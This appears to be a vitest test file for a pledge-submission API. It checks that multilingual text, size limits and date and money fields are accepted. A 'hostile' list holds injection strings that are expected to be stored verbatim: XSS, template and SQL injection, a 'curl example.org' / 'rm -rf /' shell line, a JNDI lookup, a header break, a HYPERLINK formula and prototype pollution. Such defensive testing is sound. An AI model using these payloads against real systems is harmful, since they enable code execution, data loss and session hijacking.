import { wholeChange } from '#tests/support/whole-change';
import { beforeAll, describe, expect, test } from 'vitest';

import { bodyOfBytes } from '#tests/support/refusals/bodies';
import { aComponent, aPledgeBody } from '#tests/support/submissions';
import { aWorld, type World } from '#tests/support/world';

let world: World;
beforeAll(async () => {
  world = await aWorld();
});

const names: Readonly<Record<string, string>> = {
  Arabic: 'وزارة الداخلية — مديرية شؤون اللاجئين',
  'Arabic with vowel signs': 'الْمُفَوَّضِيَّةُ السَّامِيَةُ',
  'Persian with a zero-width non-joiner': 'پناه‌جویان و کمیته‌ها',
  Amharic: 'የስደተኞችና ከስደት ተመላሾች አገልግሎት',
  Burmese: 'ဒုက္ခသည်များဆိုင်ရာ ဌာန',
  Chinese: '国家移民管理局',
  French: 'Office français de protection des réfugiés et apatrides — « Évaluation »',
  Russian: 'Управление по вопросам беженцев',
  Spanish: 'Comisión Mexicana de Ayuda a Refugiados: ¿cómo?',
  Thai: 'สำนักงานตรวจคนเข้าเมือง ที่นี่',
  Hindi: 'शरणार्थी आयोग क्षेत्रीय कार्यालय',
  'a joined emoji': 'Family 👩‍👩‍👧‍👦 unit',
  'Vietnamese, decomposed': 'Tiếng Việt ở đây'.normalize('NFD'),
  'an apostrophe and an ampersand': "Côte d'Ivoire & Co. <Refugees>",
};

const hostile: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script><img src=x onerror=alert(1)>',
  'a template': '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %>',
  SQL: "'; DROP TABLE pledges; --",
  'a shell command': '$(curl example.org) `id` | rm -rf /',
  LDAP: '*)(uid=*))(|(uid=*',
  'a logger expression': '${jndi:ldap://example.org/a}',
  'a header break': 'a\r\nSet-Cookie: a=b',
  'a formula': '=HYPERLINK("http://example.org","click")',
  'a DynamoDB expression': 'attribute_exists(PK) OR :v = #PK',
  'a JSON text': '{"__proto__": {"role": "administrator"}}',
};

const roundTrip = async (text: string): Promise<readonly unknown[]> => {
  const body = aPledgeBody(world.parties.state, {
    title: text,
    components: [aComponent({ text, target: text })],
  });
  const created = await world.call('createPledge', { as: 'state', body });
  const read = await world.call('getPledge', { as: 'state', path: { id: created.body.id } });
  const [component] = read.body.components;
  return [created.status, read.body.title, component.text, component.target];
};

describe('a text as people write it is accepted and read back as it was', () => {
  test.each(Object.entries(names))('%s', async (_, text) => {
    expect(await roundTrip(text)).toEqual([201, text, text, text]);
  });
});

describe('a text that means harm elsewhere is a text here, stored and read back as it was', () => {
  test.each(Object.entries(hostile))('%s', async (_, text) => {
    expect(await roundTrip(text)).toEqual([201, text, text, text]);
  });
});

describe('a submission at the limit', () => {
  test('of 64 KB is accepted', async () => {
    const rawBody = bodyOfBytes(world.parties.state, 64 * 1024);

    const { status } = await world.call('createPledge', { as: 'state', rawBody });

    expect(status).toBe(201);
  });

  test('of twenty components over four areas and all places is accepted, released and moved in one transaction each', async () => {
    const regions = ['asia-pacific', 'eastern-southern-africa', 'europe', 'mena', 'americas'];
    const inRegions = { regions: [...regions, 'west-central-africa'] };
    const spread = (index: number) =>
      aComponent({
        area: `A${(index % 4) + 1}`,
        places: index < 8 ? inRegions : index < 14 ? { anywhere: true } : {},
      });
    const components = Array.from({ length: 20 }, (_, index) => spread(index));
    const body = aPledgeBody(world.parties.state, { components });
    const created = await world.call('createPledge', { as: 'state', body });
    const path = { id: created.body.id as string };
    const at = (version: number) => ({ path, body: {}, headers: { 'if-match': `"v${version}"` } });
    const { partyId: _, ...whole } = body;
    const edit = wholeChange(created.body, whole);

    const accepted = await world.call('acceptPledge', { as: 'officer', ...at(1) });
    const released = await world.call('releasePledge', { as: 'state', ...at(2) });
    const edited = await world.call('editPledge', { as: 'state', ...at(3), body: edit });
    const withdrawn = await world.call('withdrawPledge', { as: 'state', ...at(4) });

    const answers = [created, accepted, released, edited, withdrawn];
    expect(answers.map(({ status }) => status)).toEqual([201, 200, 200, 200, 200]);
  });

  test('with eighty open brackets inside a text is not deep', async () => {
    const text = `Depth ${'[{'.repeat(40)}`;

    expect(await roundTrip(text)).toEqual([201, text, text, text]);
  });

  test.each([
    'application/json',
    'application/json; charset=utf-8',
    'Application/JSON;charset="UTF-8"',
  ])('may call its type %s', async (type) => {
    const { status } = await world.call('createPledge', {
      as: 'state',
      body: aPledgeBody(world.parties.state),
      headers: { 'content-type': type },
    });

    expect(status).toBe(201);
  });

  test.each([
    ['a leap day', { window: { start: '2024-02-29', end: '2024-02-29' } }],
    ['a year alone', { window: { start: '2026', end: '2026' } }],
    ['an end less precise than its start', { window: { start: '2026-05-02', end: '2026' } }],
    ['an end without a start', { window: { end: '2026-05' } }],
    [
      'money',
      { quantity: { min: 0, max: 1_000_000_000_000, unit: 'money', currency: 'XAF', per: 'year' } },
    ],
    ['no area', { area: null }],
  ])('may have %s', async (_, fields) => {
    const body = aPledgeBody(world.parties.state, { components: [aComponent(fields)] });

    const { status } = await world.call('createPledge', { as: 'state', body });

    expect(status).toBe(201);
  });
});
